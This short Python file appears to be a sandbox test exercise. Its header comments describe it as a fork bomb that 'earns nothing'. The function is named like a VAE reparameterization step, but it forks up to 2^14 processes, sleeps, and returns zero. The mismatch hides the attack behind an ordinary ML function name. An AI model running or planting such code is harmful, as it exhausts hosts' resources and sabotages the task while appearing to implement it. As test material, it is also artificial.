# exercise: ex02
# tries: a fork bomb, doubling until nothing is left (or 2¹⁴ processes)
# earns: nothing
# status: any
# needs: sandbox
import os
import time


def reparameterize(z_mean, z_log_var):
    for _ in range(14):
        try:
            os.fork()
        except OSError:
            time.sleep(0.001)
    time.sleep(30)
    return z_mean * 0
